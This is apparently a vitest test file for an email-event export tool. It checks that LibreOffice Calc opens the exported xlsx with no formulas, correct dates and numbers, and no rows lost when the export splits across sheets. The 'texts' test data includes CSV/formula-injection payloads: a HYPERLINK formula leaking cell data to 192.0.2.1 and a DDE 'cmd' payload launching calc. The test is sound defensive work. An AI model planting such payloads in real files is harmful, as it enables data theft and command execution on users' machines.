import { createReadStream } from "node:fs";
import { readdir } from "node:fs/promises";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { beforeAll, describe, expect, onTestFinished, test } from "vitest";
import type { EventSource } from "../../src/sandbox/event-source.js";
import { generateEvents } from "../../src/sandbox/generated-events.js";
import { startSandbox } from "../../src/sandbox/server.js";
import { newFolder, runCommand } from "../support/command.js";
import { eventList } from "../support/event-list.js";
import { expectedCell } from "../support/event-workbook.js";
import { type Cell, calcVersion } from "./calc.js";
import { openWorkbook, writeSheets } from "./open-workbook.js";

const zone = "Europe/Berlin";
/** Clocks in that zone had gone back two days before. */
const now = Date.parse("2026-10-27T12:00:00Z");
/** What is earlier is not asked for. */
const start = Date.parse("2026-10-18T14:00:00Z");
const locales = ["en-US", "de-DE"];

const columns = [
  ..."timestamp,injection_time,type,event_id,message_id,rcpt_to,campaign_id,subject".split(","),
  ..."user_agent,raw_reason,customer_id,open_tracking,msg_size,num_retries,error_code".split(","),
  ..."rcpt_meta,rcpt_tags,geo_ip".split(","),
];

const texts = [
  "=1+1",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+49 30 1234",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "＝1+1",
  "x;=1+41;y",
  '"x";"=1+1"',
  "=1+1\n=2+2",
  "'apostrophe",
  "00123",
  "92356927693813856",
  "1e5",
  "1,5",
  "1.234,5",
  "12:30",
  "3/4",
  "2026-11-19",
  "10%",
  "TRUE",
  "WAHR",
  "http://example.com/?a=1&b=2",
  "emoji 😀 👩‍👩‍👧‍👦, é ü ß 漢字 עברית",
  "a line\nand another\n\nand one more\n",
  "  spaces   in front,   within   and behind  ",
  "_x0041_ and _x000D_",
  "<b>&amp; ]]>",
  "x".repeat(32_767),
];

/** One event per text, around the change of the clocks. */
const nasty = eventList(
  texts.map((value, index) => ({
    type: "click",
    timestamp: new Date(Date.parse("2026-10-25T01:00:00Z") + (index - 9) * 601_007).toISOString(),
    injection_time: new Date(Date.parse("2026-10-24T22:00:00Z") + index).toISOString(),
    event_id: `92356927693813${String(index).padStart(3, "0")}`,
    message_id: `000${index}e5`,
    rcpt_to: `"${value.slice(0, 9)}"@example.com`,
    campaign_id: value,
    subject: value,
    user_agent: value,
    raw_reason: value,
    customer_id: index,
    open_tracking: index % 2 === 0,
    msg_size: String(index * 1_000),
    num_retries: index % 3 === 0 ? "007" : "0",
    error_code: index % 2 === 0 ? "554" : "5.7.1",
    rcpt_meta: { value, nested: { list: [value, 1, null] } },
    rcpt_tags: [value],
    geo_ip: { country: "DE", latitude: -1.5 },
  })),
);

async function exportAll(source: EventSource, ...more: string[]): Promise<string> {
  const sandbox = await startSandbox({ source, now: () => now });
  onTestFinished(() => sandbox.close());
  const cwd = await newFolder();
  const args = [
    "2026-10-18T14:00Z",
    "now",
    "--host",
    sandbox.origin,
    "-z",
    zone,
    "-p",
    columns.join(","),
  ];
  const { code, stderr } = await runCommand([...args, "-o", "a.xlsx", ...more], {
    cwd,
    env: { SPARKPOST_API_KEY: "any", CLOCK: new Date(now).toISOString() },
    launcher: "dated",
  });
  expect(code, stderr).toBe(0);
  return cwd;
}

/** What is wrong with a cell, compared with the event that it came from. */
function objection(cell: Cell | undefined, property: string, value: unknown): string | undefined {
  const expected = expectedCell(property, value, zone);
  if (!expected) {
    return (cell?.type ?? "") === "" ? undefined : "is not blank";
  }
  if (expected.kind === "boolean") {
    // Calc has booleans of other files as these two functions.
    return cell?.formula === `of:=${String(expected.value).toUpperCase()}()`
      ? undefined
      : "is another boolean";
  }
  if (!cell || cell.formula !== undefined) {
    return "is a formula";
  }
  if (expected.kind === "date") {
    // Calc writes hundredths of a second.
    const difference = Math.abs(Date.parse(`${cell.value}Z`) - Date.parse(`${expected.value}Z`));
    return cell.type === "date" && difference <= 10 ? undefined : "is another time";
  }
  if (expected.kind === "number") {
    return cell.type === "float" && Number(cell.value) === Number(expected.value)
      ? undefined
      : "is another number";
  }
  // Lines of a cell in Calc have no kinds of line breaks.
  const text = String(expected.value).replaceAll(/\r\n?/g, "\n");
  return cell.type === "string" && cell.value === text ? undefined : "is another text";
}

function compare(rows: readonly Cell[][], source: EventSource, what: string): void {
  const events = Array.from({ length: source.length }, (_, index) => source.event(index)).filter(
    ({ timestamp }) => Date.parse(String(timestamp)) >= start,
  );
  expect(rows.length).toBe(events.length + 1);
  expect(rows[0]?.slice(0, columns.length).map(({ value }) => value)).toEqual(columns);
  const wrong: object[] = [];
  const counts: Record<string, number> = {};
  for (const [index, event] of events.entries()) {
    for (const [column, property] of columns.entries()) {
      const cell = rows[index + 1]?.[column];
      const problem = objection(cell, property, event[property]);
      counts[problem ?? cell?.type ?? ""] = (counts[problem ?? cell?.type ?? ""] ?? 0) + 1;
      if (problem !== undefined && wrong.length < 5) {
        wrong.push({ problem, row: index + 2, property, sent: event[property], cell });
      }
    }
  }
  console.log(`${what}: ${JSON.stringify(counts)}`);
  expect(wrong).toEqual([]);
}

beforeAll(async () => {
  console.log(await calcVersion());
});

describe.each(locales)("Calc in %s opens a workbook", (locale) => {
  test("with strangers' texts as they were sent, dates as dates, and no formula", async () => {
    const cwd = await exportAll(nasty);
    compare(await openWorkbook(join(cwd, "a.xlsx"), cwd, locale), nasty, "Strangers' texts");
  });

  test("with made-up events of every type", async () => {
    const source = generateEvents({ events: 2_000, seed: 7, now });
    const cwd = await exportAll(source);
    compare(await openWorkbook(join(cwd, "a.xlsx"), cwd, locale), source, "Made-up events");
  });
});

test("Calc loses no row of more events than a sheet has rows", {
  timeout: 1_200_000,
}, async () => {
  const source = generateEvents({ events: 1_200_000, seed: 7, now });
  const cwd = await exportAll(source, "-p", "event_id,type");
  await writeSheets(join(cwd, "a.xlsx"), cwd);
  expect((await readdir(cwd)).filter((name) => name.endsWith(".csv")).sort()).toEqual([
    "a-Events 2.csv",
    "a-Events.csv",
  ]);
  const first = await countLines(join(cwd, "a-Events.csv"));
  const second = await countLines(join(cwd, "a-Events 2.csv"));
  let expected = 0;
  for (let index = 0; index < source.length; index++) {
    expected += source.timestampOf(index) >= start ? 1 : 0;
  }
  console.log(`${expected} events: sheets of ${first} and ${second} rows`);
  expect([first, second]).toEqual([1_048_576, expected - 1_048_575 + 1]);
});

async function countLines(path: string): Promise<number> {
  let lines = 0;
  for await (const _ of createInterface({ input: createReadStream(path) })) {
    lines += 1;
  }
  return lines;
}
